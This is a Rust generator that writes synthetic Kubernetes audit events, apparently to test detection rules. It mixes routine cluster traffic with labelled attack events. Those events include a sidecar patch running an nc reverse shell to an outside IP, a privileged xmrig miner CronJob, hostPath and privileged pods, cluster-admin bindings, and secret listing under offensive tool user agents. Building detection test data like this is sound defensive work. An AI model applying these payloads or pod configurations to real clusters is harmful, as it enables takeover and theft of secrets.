//! Kubernetes audit events (audit.k8s.io/v1, one per line, as the API server's log backend
//! writes them): mostly node and controller chatter, some workload changes with full pod specs in
//! `requestObject`, and planted privileged / hostPath / exec / RBAC cases.

use std::io::Write;

use anyhow::Result;
use serde_json::{json, Value};

use crate::common::{attack_positions, write_line, write_planted, Clock, Opts};
use crate::rng::Rng;
use crate::vocab;

const KUBE_VERSION: &str = "v1.30.4";

struct Ctx<'a> {
    rng: &'a mut Rng,
    ts: String,
}

fn node_user(rng: &mut Rng) -> (Value, String, String) {
    let node = rng.pick(vocab::NODES);
    (
        json!({"username": format!("system:node:{node}"), "groups": ["system:nodes", "system:authenticated"]}),
        format!("kubelet/{KUBE_VERSION} (linux/amd64) kubernetes/2c4ab5e"),
        vocab::ip(rng),
    )
}

fn controller_user(rng: &mut Rng) -> (Value, String, String) {
    let ctl = rng.pick(&[
        "replicaset-controller",
        "deployment-controller",
        "endpointslice-controller",
        "job-controller",
        "cronjob-controller",
        "daemon-set-controller",
        "statefulset-controller",
        "namespace-controller",
        "generic-garbage-collector",
        "horizontal-pod-autoscaler",
    ]);
    (
        json!({"username": format!("system:serviceaccount:kube-system:{ctl}"), "uid": rng.uuid(),
               "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}),
        format!("kube-controller-manager/{KUBE_VERSION} (linux/amd64) kubernetes/2c4ab5e/system:serviceaccount:kube-system:{ctl}"),
        "10.0.0.10".to_string(),
    )
}

fn app_user(rng: &mut Rng) -> (Value, String, String) {
    let ns = rng.pick(vocab::NAMESPACES);
    let sa = rng.pick(&[
        "default",
        "argocd-application-controller",
        "prometheus",
        "fluent-bit",
        "cert-manager",
        "external-dns",
    ]);
    (
        json!({"username": format!("system:serviceaccount:{ns}:{sa}"), "uid": rng.uuid(),
               "groups": ["system:serviceaccounts", format!("system:serviceaccounts:{ns}"), "system:authenticated"],
               "extra": {"authentication.kubernetes.io/pod-name": [format!("{sa}-{}", rng.alnum_lower(5))]}}),
        format!(
            "{sa}/v0.{}.0 (linux/amd64) kubernetes/$Format",
            rng.below(30)
        ),
        vocab::ip(rng),
    )
}

fn human_user(rng: &mut Rng) -> (Value, String, String) {
    let h = rng.pick(vocab::HUMANS);
    (
        json!({"username": format!("{h}@example.com"), "groups": ["oidc:platform-team", "system:authenticated"]}),
        format!("kubectl/{KUBE_VERSION} (linux/amd64) kubernetes/2c4ab5e"),
        format!("192.168.{}.{}", rng.below(8), rng.range(2, 250)),
    )
}

#[allow(clippy::too_many_arguments)]
fn event(
    c: &mut Ctx,
    level: &str,
    verb: &str,
    uri: String,
    who: (Value, String, String),
    object_ref: Value,
    code: u16,
    request_object: Option<Value>,
) -> Value {
    let mut ev = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": level,
        "auditID": c.rng.uuid(),
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": verb,
        "user": who.0,
        "sourceIPs": [who.2],
        "userAgent": who.1,
        "objectRef": object_ref,
        "responseStatus": if code < 300 { json!({"metadata": {}, "code": code}) } else {
            json!({"metadata": {}, "status": "Failure", "reason": if code == 403 { "Forbidden" } else { "NotFound" }, "code": code}) },
    });
    let m = ev.as_object_mut().unwrap();
    if let Some(ro) = request_object {
        m.insert("requestObject".into(), ro);
    }
    m.insert("requestReceivedTimestamp".into(), c.ts.clone().into());
    m.insert("stageTimestamp".into(), c.ts.clone().into());
    m.insert(
        "annotations".into(),
        json!({"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" },
               "authorization.k8s.io/reason": if code == 403 { "" } else { "RBAC: allowed by ClusterRoleBinding \"system:controller\"" }}),
    );
    ev
}

#[derive(Default, Clone, Copy)]
struct PodRisk {
    privileged: bool,
    caps: bool,
    host_path: Option<&'static str>,
    host_pid: bool,
    image: Option<&'static str>,
}

fn container_spec(rng: &mut Rng, name: &str, image: &str, risk: PodRisk) -> Value {
    let mut sc = json!({"allowPrivilegeEscalation": false, "runAsNonRoot": true, "readOnlyRootFilesystem": true,
                        "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}});
    if risk.privileged {
        sc = json!({"privileged": true, "runAsUser": 0});
    }
    if risk.caps {
        sc["capabilities"] = json!({"add": ["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"]});
        sc["allowPrivilegeEscalation"] = json!(true);
    }
    let mut mounts = vec![
        json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "readOnly": true,
                                 "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}),
    ];
    if risk.host_path.is_some() {
        mounts.push(json!({"name": "host", "mountPath": "/host"}));
    }
    let word = rng.pick(vocab::WORDS);
    json!({
        "name": name,
        "image": image,
        "ports": [{"name": "http", "containerPort": rng.pick(&[8080, 8000, 3000, 9090]), "protocol": "TCP"}],
        "env": [
            {"name": "APP_ENV", "value": "production"},
            {"name": "LOG_LEVEL", "value": "info"},
            {"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": format!("{word}-db"), "key": "url"}}},
            {"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
        ],
        "resources": {"limits": {"cpu": "1", "memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
        "volumeMounts": mounts,
        "livenessProbe": {"httpGet": {"path": "/healthz", "port": "http", "scheme": "HTTP"}, "periodSeconds": 10},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
        "securityContext": sc,
    })
}

fn pod_spec(rng: &mut Rng, app: &str, risk: PodRisk) -> Value {
    let image = risk.image.unwrap_or_else(|| rng.pick(vocab::IMAGES));
    let mut volumes = vec![
        json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "projected": {
        "sources": [{"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}],
        "defaultMode": 420}}),
    ];
    if let Some(p) = risk.host_path {
        volumes.push(json!({"name": "host", "hostPath": {"path": p, "type": "Directory"}}));
    }
    let mut spec = json!({
        "volumes": volumes,
        "containers": [container_spec(rng, app, image, risk)],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "serviceAccountName": "default",
        "securityContext": {"fsGroup": 2000},
        "schedulerName": "default-scheduler",
        "tolerations": [
            {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
            {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}],
        "priority": 0,
        "enableServiceLinks": true,
        "preemptionPolicy": "PreemptLowerPriority",
    });
    if rng.chance(0.3) {
        let sidecar = container_spec(
            rng,
            "log-shipper",
            "ghcr.io/fluent/fluent-bit:3.1",
            PodRisk::default(),
        );
        spec["containers"].as_array_mut().unwrap().push(sidecar);
    }
    if risk.host_pid {
        spec["hostPID"] = json!(true);
        spec["hostNetwork"] = json!(true);
    }
    spec
}

fn pod_object(rng: &mut Rng, ns: &str, app: &str, risk: PodRisk) -> (String, Value) {
    let rs = rng.hex(10);
    let name = format!("{app}-{rs}-{}", rng.alnum_lower(5));
    let obj = json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": format!("{app}-{rs}-"),
            "namespace": ns,
            "labels": {"app.kubernetes.io/name": app, "pod-template-hash": rs},
            "annotations": {"kubectl.kubernetes.io/restartedAt": "2026-11-19T08:00:00Z"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": format!("{app}-{rs}"),
                                 "uid": rng.uuid(), "controller": true, "blockOwnerDeletion": true}],
        },
        "spec": pod_spec(rng, app, risk),
        "status": {},
    });
    (name, obj)
}

/// A pod created in `ns` by `who`, its full spec in the request.
fn pod_created(
    c: &mut Ctx,
    ns: &str,
    app: &str,
    risk: PodRisk,
    who: (Value, String, String),
) -> Value {
    let (name, obj) = pod_object(c.rng, ns, app, risk);
    event(
        c,
        "RequestResponse",
        "create",
        format!("/api/v1/namespaces/{ns}/pods"),
        who,
        oref("pods", Some(ns), Some(&name), "", "v1"),
        201,
        Some(obj),
    )
}

fn oref(resource: &str, ns: Option<&str>, name: Option<&str>, group: &str, version: &str) -> Value {
    let mut o = json!({"resource": resource});
    let m = o.as_object_mut().unwrap();
    if let Some(ns) = ns {
        m.insert("namespace".into(), ns.into());
    }
    if let Some(n) = name {
        m.insert("name".into(), n.into());
    }
    if !group.is_empty() {
        m.insert("apiGroup".into(), group.into());
    }
    m.insert("apiVersion".into(), version.into());
    o
}

fn path_prefix(group: &str, version: &str) -> String {
    if group.is_empty() {
        format!("/api/{version}")
    } else {
        format!("/apis/{group}/{version}")
    }
}

fn background(c: &mut Ctx) -> Value {
    let r = c.rng.below(1000);
    let ns = c.rng.pick(vocab::NAMESPACES);
    let word = c.rng.pick(vocab::WORDS);
    match r {
        // Node heartbeats: lease renewals.
        0..=299 => {
            let who = node_user(c.rng);
            let node = who.0["username"]
                .as_str()
                .unwrap()
                .trim_start_matches("system:node:")
                .to_string();
            event(c, "Metadata", "update",
                  format!("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s"),
                  who, oref("leases", Some("kube-node-lease"), Some(&node), "coordination.k8s.io", "v1"), 200, None)
        }
        // Reads by kubelets, controllers and operators.
        300..=599 => {
            let (res, group, ver) = c.rng.pick(&[
                ("pods", "", "v1"),
                ("configmaps", "", "v1"),
                ("endpoints", "", "v1"),
                ("services", "", "v1"),
                ("nodes", "", "v1"),
                ("deployments", "apps", "v1"),
                ("replicasets", "apps", "v1"),
                ("endpointslices", "discovery.k8s.io", "v1"),
                ("ingresses", "networking.k8s.io", "v1"),
                ("secrets", "", "v1"),
            ]);
            // Secrets are read by name (kubelets mounting them); listing them is a planted attack.
            let verb = if res == "secrets" {
                "get"
            } else {
                c.rng.pick(&["get", "get", "list", "watch"])
            };
            let who = match c.rng.below(3) {
                0 => node_user(c.rng),
                1 => controller_user(c.rng),
                _ => app_user(c.rng),
            };
            let name = format!("{word}-{}", c.rng.alnum_lower(5));
            let (uri, or) = if verb == "get" {
                (
                    format!("{}/namespaces/{ns}/{res}/{name}", path_prefix(group, ver)),
                    oref(res, Some(ns), Some(&name), group, ver),
                )
            } else {
                (
                    format!(
                        "{}/namespaces/{ns}/{res}?resourceVersion={}&watch={}",
                        path_prefix(group, ver),
                        c.rng.range(1_000_000, 99_999_999),
                        verb == "watch"
                    ),
                    oref(res, Some(ns), None, group, ver),
                )
            };
            let code = if c.rng.chance(0.02) { 404 } else { 200 };
            event(c, "Metadata", verb, uri, who, or, code, None)
        }
        // Status patches from kubelets.
        600..=749 => {
            let who = node_user(c.rng);
            let name = format!("{word}-{}-{}", c.rng.hex(10), c.rng.alnum_lower(5));
            let mut ev = event(
                c,
                "Request",
                "patch",
                format!("/api/v1/namespaces/{ns}/pods/{name}/status"),
                who,
                oref("pods", Some(ns), Some(&name), "", "v1"),
                200,
                None,
            );
            ev["objectRef"]["subresource"] = json!("status");
            ev["requestObject"] = json!({"status": {"conditions": [{"type": "Ready", "status": "True",
                "lastTransitionTime": c.ts}], "containerStatuses": [{"name": word, "ready": true, "restartCount": c.rng.below(3),
                "started": true, "containerID": format!("containerd://{}", c.rng.hex(64))}]}});
            ev
        }
        // Events written by components.
        750..=879 => {
            let who = if c.rng.chance(0.5) {
                node_user(c.rng)
            } else {
                controller_user(c.rng)
            };
            let name = format!("{word}-{}.{}", c.rng.alnum_lower(5), c.rng.hex(16));
            let reason = c.rng.pick(&[
                "Scheduled",
                "Pulled",
                "Created",
                "Started",
                "Killing",
                "SuccessfulCreate",
                "ScalingReplicaSet",
                "BackOff",
            ]);
            event(
                c,
                "Request",
                "create",
                format!("/api/v1/namespaces/{ns}/events"),
                who,
                oref("events", Some(ns), Some(&name), "", "v1"),
                201,
                Some(
                    json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
                              "involvedObject": {"kind": "Pod", "namespace": ns, "name": word}, "reason": reason,
                              "message": format!("{reason} {word}"), "type": "Normal", "count": 1}),
                ),
            )
        }
        // Pods created by the ReplicaSet controller: full pod specs.
        880..=939 => {
            let who = controller_user(c.rng);
            let ns = if ns == "kube-system" { "default" } else { ns };
            pod_created(c, ns, word, PodRisk::default(), who)
        }
        // Deployments updated by CD (ArgoCD / humans with kubectl apply).
        940..=964 => {
            let who = if c.rng.chance(0.7) {
                app_user(c.rng)
            } else {
                human_user(c.rng)
            };
            let ns = if ns == "kube-system" { "default" } else { ns };
            let (_, pod) = pod_object(c.rng, ns, word, PodRisk::default());
            let obj = json!({"kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": word, "namespace": ns, "labels": {"app.kubernetes.io/name": word}},
                "spec": {"replicas": c.rng.range(1, 6), "selector": {"matchLabels": {"app.kubernetes.io/name": word}},
                         "template": {"metadata": {"labels": {"app.kubernetes.io/name": word}}, "spec": pod["spec"].clone()},
                         "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}}}});
            event(
                c,
                "RequestResponse",
                "update",
                format!("/apis/apps/v1/namespaces/{ns}/deployments/{word}"),
                who,
                oref("deployments", Some(ns), Some(word), "apps", "v1"),
                200,
                Some(obj),
            )
        }
        // Authn/z reviews from aggregated API servers and webhooks.
        965..=989 => {
            let who = app_user(c.rng);
            let (res, group) = c.rng.pick(&[
                ("tokenreviews", "authentication.k8s.io"),
                ("subjectaccessreviews", "authorization.k8s.io"),
            ]);
            event(
                c,
                "Metadata",
                "create",
                format!("/apis/{group}/v1/{res}"),
                who,
                oref(res, None, None, group, "v1"),
                201,
                None,
            )
        }
        // Jobs from CronJobs (flagged by SigmaHQ's cronjob rule: realistic noise).
        990..=992 => {
            let who = controller_user(c.rng);
            let name = format!("{word}-{}", c.rng.range(29_000_000, 29_999_999));
            event(
                c,
                "Metadata",
                "create",
                format!("/apis/batch/v1/namespaces/{ns}/jobs"),
                who,
                oref("jobs", Some(ns), Some(&name), "batch", "v1"),
                201,
                None,
            )
        }
        // ConfigMap updates (leader election of older components).
        993..=997 => {
            let who = app_user(c.rng);
            event(
                c,
                "Metadata",
                "update",
                format!("/api/v1/namespaces/{ns}/configmaps/{word}-leader"),
                who,
                oref(
                    "configmaps",
                    Some(ns),
                    Some(&format!("{word}-leader")),
                    "",
                    "v1",
                ),
                200,
                None,
            )
        }
        // Denied requests (flagged by SigmaHQ's unauthorized rule).
        _ => {
            let who = app_user(c.rng);
            event(
                c,
                "Metadata",
                "list",
                format!("/api/v1/namespaces/{ns}/secrets"),
                who,
                oref("secrets", Some(ns), None, "", "v1"),
                403,
                None,
            )
        }
    }
}

const ATTACK_TAGS: &[&[&str]] = &[
    &[
        "kubernetes_audit_privileged_pod_creation",
        "k8s_pod_privileged",
    ],
    &[
        "kubernetes_audit_hostpath_mount",
        "k8s_pod_sensitive_host_path",
    ],
    &["kubernetes_audit_exec_into_container"],
    &[
        "kubernetes_audit_pod_in_system_namespace",
        "k8s_pod_privileged",
    ],
    &["kubernetes_audit_rolebinding_modification"],
    &["kubernetes_audit_secrets_enumeration"],
    &["kubernetes_audit_serviceaccount_creation"],
    &["kubernetes_audit_rbac_permisions_listing"],
    &["kubernetes_audit_deployment_deleted"],
    &["kubernetes_audit_events_deleted"],
    &["kubernetes_audit_change_admission_controller"],
    &[
        "kubernetes_audit_cronjob_modification",
        "k8s_pod_privileged",
    ],
    &["kubernetes_audit_sidecar_injection"],
    &["kubernetes_audit_secrets_modified_or_deleted"],
    // Written for SigmaHQ's "Potential Enumeration Activity" (tool user agents), which cannot fire
    // on real audit events: it compares `responseStatus.code` (a number) with 'ALLOW'. The
    // event still lists secrets, which the enumeration rule below does catch.
    &["kubernetes_audit_secrets_enumeration"],
    &["k8s_workload_offensive_tool_image", "k8s_pod_privileged"],
];

fn attack(c: &mut Ctx, k: usize) -> Value {
    let ns = c.rng.pick(&["default", "shop", "ci", "data"]);
    let who = human_user(c.rng);
    match k {
        0 => pod_created(
            c,
            ns,
            "debug",
            PodRisk {
                privileged: true,
                caps: true,
                ..Default::default()
            },
            who,
        ),
        1 => {
            let path = c.rng.pick(&[
                "/",
                "/etc",
                "/var/run",
                "/var/lib/kubelet",
                "/root/.ssh",
                "/proc",
            ]);
            pod_created(
                c,
                ns,
                "node-debugger",
                PodRisk {
                    host_path: Some(path),
                    host_pid: true,
                    ..Default::default()
                },
                who,
            )
        }
        2 => {
            let pod = format!(
                "{}-{}-{}",
                c.rng.pick(vocab::WORDS),
                c.rng.hex(10),
                c.rng.alnum_lower(5)
            );
            let shell = c
                .rng
                .pick(&["%2Fbin%2Fsh", "%2Fbin%2Fbash", "%2Fusr%2Fbin%2Fpython"]);
            let mut ev = event(c, "Metadata", "create",
                format!("/api/v1/namespaces/{ns}/pods/{pod}/exec?command={shell}&container=app&stdin=true&stdout=true&tty=true"),
                who, oref("pods", Some(ns), Some(&pod), "", "v1"), 101, None);
            ev["objectRef"]["subresource"] = json!("exec");
            ev
        }
        3 => pod_created(
            c,
            "kube-system",
            "kube-proxy-debug",
            PodRisk {
                privileged: true,
                host_pid: true,
                host_path: Some("/"),
                ..Default::default()
            },
            who,
        ),
        4 => {
            let name = format!("{}-admin", c.rng.alnum_lower(6));
            event(
                c,
                "RequestResponse",
                "create",
                "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
                who,
                oref(
                    "clusterrolebindings",
                    None,
                    Some(&name),
                    "rbac.authorization.k8s.io",
                    "v1",
                ),
                201,
                Some(
                    json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                    "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}),
                ),
            )
        }
        5 => {
            let who = app_user(c.rng);
            event(
                c,
                "Metadata",
                "list",
                format!("/api/v1/namespaces/{ns}/secrets?limit=500"),
                who,
                oref("secrets", Some(ns), None, "", "v1"),
                200,
                None,
            )
        }
        6 => {
            let name = format!("svc-{}", c.rng.alnum_lower(6));
            event(
                c,
                "RequestResponse",
                "create",
                format!("/api/v1/namespaces/{ns}/serviceaccounts"),
                who,
                oref("serviceaccounts", Some(ns), Some(&name), "", "v1"),
                201,
                Some(
                    json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}}),
                ),
            )
        }
        7 => {
            let who = app_user(c.rng);
            event(
                c,
                "Metadata",
                "create",
                "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(),
                who,
                oref(
                    "selfsubjectrulesreviews",
                    None,
                    None,
                    "authorization.k8s.io",
                    "v1",
                ),
                201,
                None,
            )
        }
        8 => {
            let w = c.rng.pick(vocab::WORDS);
            event(
                c,
                "Metadata",
                "delete",
                format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"),
                who,
                oref("deployments", Some(ns), Some(w), "apps", "v1"),
                200,
                None,
            )
        }
        9 => event(
            c,
            "Metadata",
            "delete",
            format!("/api/v1/namespaces/{ns}/events"),
            who,
            oref("events", Some(ns), None, "", "v1"),
            200,
            None,
        ),
        10 => {
            let name = format!("{}-webhook", c.rng.alnum_lower(6));
            event(
                c,
                "Metadata",
                "create",
                "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations".into(),
                who,
                oref(
                    "mutatingwebhookconfigurations",
                    None,
                    Some(&name),
                    "admissionregistration.k8s.io",
                    "v1",
                ),
                201,
                None,
            )
        }
        11 => {
            let (_, pod) = pod_object(
                c.rng,
                ns,
                "miner",
                PodRisk {
                    privileged: true,
                    image: Some("45.137.21.9:5000/miner/xmrig:6.21"),
                    ..Default::default()
                },
            );
            let name = format!("{}-sync", c.rng.alnum_lower(5));
            event(
                c,
                "RequestResponse",
                "create",
                format!("/apis/batch/v1/namespaces/{ns}/cronjobs"),
                who,
                oref("cronjobs", Some(ns), Some(&name), "batch", "v1"),
                201,
                Some(
                    json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
                      "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod["spec"].clone()}}}}}),
                ),
            )
        }
        12 => {
            let w = c.rng.pick(vocab::WORDS);
            event(
                c,
                "Request",
                "patch",
                format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"),
                who,
                oref("deployments", Some(ns), Some(w), "apps", "v1"),
                200,
                Some(
                    json!({"spec": {"template": {"spec": {"containers": [{"name": "proxy", "image": "docker.io/alpine:latest",
                      "command": ["/bin/sh", "-c", "while true; do nc -e /bin/sh 185.220.101.34 4444; sleep 60; done"]}]}}}}),
                ),
            )
        }
        13 => {
            let name = format!("{}-token", c.rng.alnum_lower(5));
            event(
                c,
                "Metadata",
                "delete",
                format!("/api/v1/namespaces/{ns}/secrets/{name}"),
                who,
                oref("secrets", Some(ns), Some(&name), "", "v1"),
                200,
                None,
            )
        }
        14 => {
            let who = app_user(c.rng);
            let mut ev = event(
                c,
                "Metadata",
                "list",
                "/api/v1/secrets?limit=500".into(),
                who,
                oref("secrets", None, None, "", "v1"),
                200,
                None,
            );
            ev["userAgent"] =
                json!(c
                    .rng
                    .pick(&["trufflehog/3.82.1", "access_matrix/0.8", "azurehound/v2.1"]));
            ev
        }
        _ => {
            let img = c.rng.pick(&[
                "docker.io/dizcza/docker-hashcat:cuda",
                "docker.io/kalilinux/kali-rolling:latest",
                "docker.io/metasploitframework/metasploit-framework:6.4",
            ]);
            pod_created(
                c,
                ns,
                "tools",
                PodRisk {
                    privileged: true,
                    image: Some(img),
                    ..Default::default()
                },
                who,
            )
        }
    }
}

pub fn generate(opts: &Opts, out: &mut impl Write, planted: &mut impl Write) -> Result<()> {
    let mut rng = Rng::new(opts.seed ^ 0x6b38_7361_7564);
    let attacks_at = attack_positions(&mut rng, opts.events, opts.attacks);
    let mut next_attack = attacks_at.iter().peekable();
    let mut clock = Clock::new(86_400_000_000_000 / opts.events.max(1));
    let mut k = 0usize;
    for i in 0..opts.events {
        let ts = Clock::rfc3339_micros(clock.tick(&mut rng));
        let mut c = Ctx { rng: &mut rng, ts };
        let is_attack = next_attack.peek().is_some_and(|&&p| p == i);
        let ev = if is_attack {
            next_attack.next();
            let kind = k % ATTACK_TAGS.len();
            k += 1;
            let ev = attack(&mut c, kind);
            write_planted(
                planted,
                i + 1,
                ev["auditID"].as_str().unwrap_or_default(),
                ATTACK_TAGS[kind],
            )?;
            ev
        } else {
            background(&mut c)
        };
        write_line(out, &ev)?;
    }
    Ok(())
}
